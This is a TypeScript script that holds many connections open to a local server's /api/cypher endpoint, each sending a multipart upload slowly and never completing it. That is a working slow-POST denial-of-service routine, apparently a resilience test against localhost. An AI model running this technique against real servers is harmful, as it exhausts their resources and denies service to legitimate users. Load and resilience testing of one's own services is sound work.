import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

/** Of each body: less than a form may have, so that its length is no reason to refuse it. */
const BYTES = 1_000_000
/** Between two connections, ms: a thousand requests at once would be another attack. */
const PAUSE_MS = 1
const PIECE = Buffer.alloc(20_000, 'x')
const CHUNK = Buffer.concat([Buffer.from(`${PIECE.byteLength.toString(16)}\r\n`), PIECE, Buffer.from('\r\n')])
const HEAD = '--x\r\ncontent-disposition: form-data; name="photo"; filename="a.png"\r\n\r\n'

/**
 * Holds so many connections open, each with a form that arrives piece by piece and never ends; of every two one says its
 * length. Runs until it is killed; prints a line once all pieces but the last are sent, or refused. Arguments: port, number
 * of connections, ms in which a body is sent.
 */
async function sendSlowBodies(port: number, count: number, ms: number): Promise<void> {
  const sockets: Awaited<ReturnType<typeof open>>[] = []
  for (let index = 0; index < count; index += 1) {
    sockets.push(await open(port, index % 2 === 0))
    await wait(PAUSE_MS)
  }
  const rounds = BYTES / PIECE.byteLength - 1
  const startedAt = performance.now()
  const pieces = Array.from({ length: rounds }, () => sockets).flat()
  for (const [index, { socket, isAnnounced }] of pieces.entries()) {
    // Evenly: in bursts the senders' own work would be what slows the machine.
    const early = (index / pieces.length) * ms - (performance.now() - startedAt)
    if (early > 1) await wait(early)
    if (socket.writable) socket.write(isAnnounced ? PIECE : CHUNK)
  }
  console.log('sent')
}

function open(port: number, isAnnounced: boolean): Promise<{ socket: Socket; isAnnounced: boolean }> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => {
      const length = isAnnounced ? `content-length: ${BYTES}` : 'transfer-encoding: chunked'
      const type = 'content-type: multipart/form-data; boundary=x'
      socket.write(`POST /api/cypher HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\n${type}\r\n${length}\r\n\r\n`)
      socket.write(isAnnounced ? HEAD : `${HEAD.length.toString(16)}\r\n${HEAD}\r\n`)
      socket.on('error', () => undefined)
      socket.resume()
      resolve({ socket, isAnnounced })
    })
    socket.once('error', reject)
  })
}

const [port = '', count = '', ms = ''] = process.argv.slice(2)
void sendSlowBodies(Number(port), Number(count), Number(ms))
